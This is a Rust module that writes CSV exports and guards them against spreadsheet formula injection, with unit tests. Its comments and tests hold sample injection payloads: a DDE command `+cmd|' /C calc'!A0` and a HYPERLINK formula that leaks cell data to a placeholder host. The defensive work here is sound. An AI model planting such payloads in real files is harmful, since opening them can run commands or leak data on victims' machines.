//! The one CSV writer of every export. Spreadsheet programs run a cell
//! that begins with `=`, `+`, `-` or `@` as a formula (and some strip a
//! leading tab or carriage return first), so a station named
//! `=HYPERLINK("http://…")` or `+cmd|' /C calc'!A0` in an export would
//! run on the county clerk's machine when the file is opened. Every cell
//! written here that begins with one of those characters gets a `'` in
//! front, which spreadsheets show as text; numbers (`-12.50`) are left as
//! they are so that they stay numbers. Exports must write through
//! [`CsvWriter`] (or at least [`escape_cell`]), never `csv::Writer` alone.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is safe to put in a CSV file: prefixed with `'` when it
/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return, unless it is
/// a plain number (`-12.50`, `-3`).
pub fn escape_cell(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_TRIGGERS.contains(&first) && !is_plain_number(cell) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// `12`, `-12.50`, `0.5`: an optional minus, digits, and optionally a dot
/// and digits. Nothing else (no `+`, exponent or separators), so no
/// formula can pass for one.
fn is_plain_number(cell: &str) -> bool {
    let body = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = body.split_once('.').unwrap_or((body, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// An RFC 4180 CSV text (comma, `"` quoting, `\n` line ends) built row by
/// row, every cell through [`escape_cell`].
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        CsvWriter::new()
    }
}

impl CsvWriter {
    pub fn new() -> CsvWriter {
        CsvWriter {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Adds one row (the header is a row like any other).
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let escaped: Vec<String> = cells
            .into_iter()
            .map(|c| escape_cell(c.as_ref()).into_owned())
            .collect();
        // Writing to a Vec cannot fail, and every field is a `str`.
        if let Err(e) = self.inner.write_record(&escaped) {
            unreachable!("writing CSV to memory failed: {e}");
        }
    }

    /// The CSV text.
    pub fn finish(self) -> String {
        let bytes = match self.inner.into_inner() {
            Ok(bytes) => bytes,
            Err(e) => unreachable!("flushing CSV to memory failed: {}", e.error()),
        };
        // Only `str` cells and ASCII punctuation went in.
        String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-x", "'-x"),
            ("-1+1", "'-1+1"),
            ("-", "'-"),
            ("=", "'="),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("+12", "'+12"),
            ("-1e5", "'-1e5"),
            ("-12.", "'-12."),
        ] {
            assert_eq!(escape_cell(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_left_alone() {
        for cell in [
            "-1",
            "-12.50",
            "0",
            "12",
            "40.80",
            "S001",
            "王庄便民服务站",
            "",
            " =1",
            "a=b",
            "'quoted",
        ] {
            assert_eq!(escape_cell(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn the_writer_quotes_and_escapes_every_cell() {
        let mut w = CsvWriter::new();
        w.row(["code", "name", "amount"]);
        w.row(["S001", "=HYPERLINK(\"x\")", "-12.50"]);
        w.row(["@SUM(1+1)", "x, \"y\"", "-x"]);
        assert_eq!(
            w.finish(),
            "code,name,amount\nS001,\"'=HYPERLINK(\"\"x\"\")\",-12.50\n'@SUM(1+1),\"x, \"\"y\"\"\",'-x\n"
        );
    }
}
